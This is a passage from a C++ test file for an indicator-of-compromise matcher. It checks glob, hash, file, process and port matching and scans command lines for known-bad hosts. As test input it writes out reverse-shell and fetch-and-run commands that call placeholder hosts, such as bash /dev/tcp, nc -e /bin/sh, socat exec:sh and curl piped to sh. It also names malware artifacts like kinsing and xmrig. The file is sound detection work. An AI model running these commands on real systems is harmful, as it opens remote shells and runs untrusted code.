  const std::string md5_raw("\xd4\x1d\x8c\xd9\x8f\x00\xb2\x04\xe9\x80\x09\x98\xec\xf8\x42\x7e", 16);
  CHECK(values(set.match_hash(md5_raw)) == V{"d41d8cd98f00b204e9800998ecf8427e"});
  std::string sha1_raw;
  for (std::size_t i = 0; i < 40; i += 2) {
    sha1_raw += static_cast<char>(std::stoi(
        std::string("da39a3ee5e6b4b0d3255bfef95601890afd80709").substr(i, 2), nullptr, 16));
  }
  CHECK(values(set.match_hash(sha1_raw)) == V{"da39a3ee5e6b4b0d3255bfef95601890afd80709"});
  CHECK(set.match_hash("d41d8cd98f00b204e9800998ecf8427f").empty());
  CHECK(set.match_hash("d41d8cd98f00b204e9800998ecf8427").empty());
  CHECK(set.match_hash("").empty());
  CHECK(set.match_hash(std::string(16, '\0')).empty());
}

TEST_CASE("ioc: match_file: names, paths, globs", "[ioc]") {
  auto set = must_parse(
      "/tmp/.X11-unix/.x\nfile:kinsing\nlibprocesshider*.so\n/dev/shm/*\n/usr/*/.[a-z]*\n");
  CHECK(values(set.match_file("/tmp/.X11-unix/.x")) == V{"/tmp/.X11-unix/.x"});
  CHECK(set.match_file("/var/tmp/.X11-unix/.x").empty());  // a path pattern is the whole path
  CHECK(values(set.match_file("/var/tmp/kinsing")) == V{"kinsing"});
  CHECK(values(set.match_file("kinsing")) == V{"kinsing"});
  CHECK(set.match_file("/var/tmp/kinsing2").empty());
  CHECK(values(set.match_file("/usr/local/lib/libprocesshider.so")) == V{"libprocesshider*.so"});
  CHECK(values(set.match_file("/dev/shm/a/b/c")) == V{"/dev/shm/*"});  // '*' crosses '/'
  CHECK(set.match_file("/dev/shm").empty());
  CHECK(values(set.match_file("/usr/bin/.hidden")) == V{"/usr/*/.[a-z]*"});
  CHECK(set.match_file("/usr/bin/.Hidden").empty());
  CHECK(set.match_file("").empty());
  CHECK(set.match_file("/").empty());
}

TEST_CASE("ioc: match_process, match_port, match_user", "[ioc]") {
  auto set = must_parse(
      "process:kdevtmpfsi\nprocess:xmr*\nprocess:kworker/[0-9]:?\nport:4444\n"
      "udp/53\nuser:backdoor\n");
  CHECK(values(set.match_process("kdevtmpfsi")) == V{"kdevtmpfsi"});
  CHECK(values(set.match_process("xmrig")) == V{"xmr*"});
  CHECK(set.match_process("Xmrig").empty());
  CHECK(values(set.match_process("kworker/0:1")) == V{"kworker/[0-9]:?"});
  CHECK(set.match_process("kworker/u8:1").empty());
  CHECK(values(set.match_port(4444)) == V{"4444"});
  CHECK(values(set.match_port(53)) == V{"53"});
  CHECK(set.match_port(0).empty());
  CHECK(set.match_port(4444 + 65536).empty());
  CHECK(values(set.match_user("backdoor")) == V{"backdoor"});
  CHECK(set.match_user("Backdoor").empty());
  CHECK(set.match_user("backdoor ").empty());
}

TEST_CASE("ioc: glob semantics", "[ioc]") {
  struct Case {
    const char* pattern;
    const char* text;
    bool match;
  };
  const std::vector<Case> cases = {
      {"*", "", true},          {"*", "a/b", true},        {"", "", true},
      {"", "a", false},         {"a*", "a", true},         {"*a", "ba", true},
      {"*a", "ab", false},      {"a?c", "abc", true},      {"a?c", "ac", false},
      {"[abc]", "b", true},     {"[a-c]x", "cx", true},    {"[!a-c]", "d", true},
      {"[^a-c]", "a", false},   {"[]]", "]", true},        {"[!]]", "a", true},
      {"[a-]", "-", true},      {"[", "[", true},          {"a[b", "a[b", true},
      {"\\*", "*", true},       {"\\*", "a", false},       {"a\\", "a\\", true},
      {"*.so", ".so", true},    {"*.so", "x.so.1", false}, {"**x", "abx", true},
      {"a*b*c", "aXbYc", true}, {"a*b*c", "aXcYb", false},
  };
  for (const auto& c : cases) {
    INFO(c.pattern << " vs " << c.text);
    CHECK(glob_match(c.pattern, c.text) == c.match);
  }
  CHECK(glob_match("x\xff*", "x\xff\xfe"));
}

TEST_CASE("ioc: glob worst case stays fast", "[ioc]") {
  const std::string text(1 << 20, 'a');
  const auto start = std::chrono::steady_clock::now();
  CHECK_FALSE(glob_match("*a*a*a*a*b", text));
  CHECK_FALSE(glob_match("*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b", text));
  CHECK(glob_match("*a*a*a*a*a", text));
  CHECK_FALSE(glob_match("*[!a]*", text));
  const auto elapsed = std::chrono::steady_clock::now() - start;
  CHECK(elapsed < std::chrono::seconds(2));

  // Through the matcher too: a pathological file pattern against a long path.
  auto set = must_parse("file:*a*a*a*a*b\n");
  const auto t0 = std::chrono::steady_clock::now();
  CHECK(set.match_file(std::string(1 << 20, 'a')).empty());
  CHECK(std::chrono::steady_clock::now() - t0 < std::chrono::seconds(2));
}

TEST_CASE("ioc: scan_text on command lines", "[ioc]") {
  auto set = must_parse(
      "1.2.3.4\nevil.example\nhttp://1.2.3.4:8080/x\n198.51.100.0/24\n2001:db8::dead:beef\n"
      "http://cdn.other.example/stage2\nd41d8cd98f00b204e9800998ecf8427e\n");
  CHECK(hits(set, "curl -s http://1.2.3.4:8080/x | sh") ==
        V{"http://1.2.3.4:8080/x <- http://1.2.3.4:8080/x", "1.2.3.4 <- 1.2.3.4"});
  CHECK(hits(set, "wget evil.example/a -O /tmp/a") == V{"evil.example <- evil.example"});
  CHECK(hits(set, "wget -q cdn.other.example/stage2/run.sh") ==
        V{"http://cdn.other.example/stage2 <- cdn.other.example/stage2/run.sh"});
  CHECK(hits(set, "curl 'https://A.EVIL.EXAMPLE/x?y=1&z=2' -o-") ==
        V{"evil.example <- A.EVIL.EXAMPLE"});
  CHECK(hits(set, "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1") ==
        V{"198.51.100.0/24 <- 198.51.100.23"});
  CHECK(hits(set, "cat < /dev/udp/evil.example/53") == V{"evil.example <- evil.example"});
  CHECK(hits(set, "nc 198.51.100.23 4444 -e /bin/sh") == V{"198.51.100.0/24 <- 198.51.100.23"});
  CHECK(hits(set, "ssh -p 22 root@1.2.3.4") == V{"1.2.3.4 <- 1.2.3.4"});
  CHECK(hits(set, "socat tcp:1.2.3.4:443 exec:sh") == V{"1.2.3.4 <- 1.2.3.4"});
  CHECK(hits(set, "ping -6 [2001:db8::dead:beef]:22") ==
        V{"2001:db8::dead:beef <- 2001:db8::dead:beef"});
  CHECK(hits(set, "http://[2001:db8::dead:beef]:8080/") ==
        V{"2001:db8::dead:beef <- [2001:db8::dead:beef]"});
  CHECK(hits(set, "http_proxy=http://evil.example:3128") == V{"evil.example <- evil.example"});
  CHECK(
      hits(set, "1.2.3.4 evil.example www.evil.example # hosts file") ==
      V{"1.2.3.4 <- 1.2.3.4", "evil.example <- evil.example", "evil.example <- www.evil.example"});
  CHECK(hits(set, "see evil.example.") == V{"evil.example <- evil.example"});
  CHECK(hits(set, "md5sum: D41D8CD98F00B204E9800998ECF8427E  /tmp/x") ==
        V{"d41d8cd98f00b204e9800998ecf8427e <- D41D8CD98F00B204E9800998ECF8427E"});
  // Repeats are reported once per matched text.
  CHECK(hits(set, "1.2.3.4 1.2.3.4 1.2.3.4") == V{"1.2.3.4 <- 1.2.3.4"});
}

TEST_CASE("ioc: scan_text does not match inside other words or encodings", "[ioc]") {
  auto set = must_parse("evil.example\n1.2.3.4\nd41d8cd98f00b204e9800998ecf8427e\n");
  CHECK(hits(set, "notevil.example").empty());
  CHECK(hits(set, "evil.example.org").empty());
  CHECK(hits(set, "evil-example.com").empty());
  CHECK(hits(set, "11.2.3.4 1.2.3.45 1.2.3.4.5").empty());
  CHECK(hits(set, "/opt/evil.example/bin").empty());
  // base64 of "curl evil.example|sh" and of "1.2.3.4": encoded text is not decoded.
  CHECK(hits(set, "echo Y3VybCBldmlsLmV4YW1wbGV8c2g= | base64 -d | sh").empty());
  CHECK(hits(set, "echo MS4yLjMuNA== | base64 -d").empty());
  CHECK(hits(set, "xd41d8cd98f00b204e9800998ecf8427e").empty());
  CHECK(hits(set, "").empty());
}

TEST_CASE("ioc: hostile bytes through every matcher", "[ioc]") {
  auto set = IndicatorSet::load_file(kFixtures + "advisory.yaml");
  REQUIRE(set);
  std::mt19937 rng(6);
  const std::string alphabet = "ab.:/%[]-_?*@09\xff\n\0 e";
  for (int round = 0; round < 2000; ++round) {
    std::string s(rng() % 200, 'x');
    for (auto& c : s) c = alphabet[rng() % alphabet.size()];
    (void)set->match_ip(s);
    (void)set->match_domain(s);
    (void)set->match_url(s);
    (void)set->match_hash(s);
    (void)set->match_file(s);
    (void)set->match_process(s);
    (void)set->match_user(s);
    (void)set->scan_text(s);
    (void)IndicatorSet::parse(s, "fuzz");
  }
  // A long line of tokens scans in linear time.
  std::string long_line;
  for (int i = 0; i < 100000; ++i) long_line += "a.evil.example http://x.evil.example/a?b ";
  const auto t0 = std::chrono::steady_clock::now();
  CHECK(set->scan_text(long_line).size() == 2);
  CHECK(std::chrono::steady_clock::now() - t0 < std::chrono::seconds(5));
}
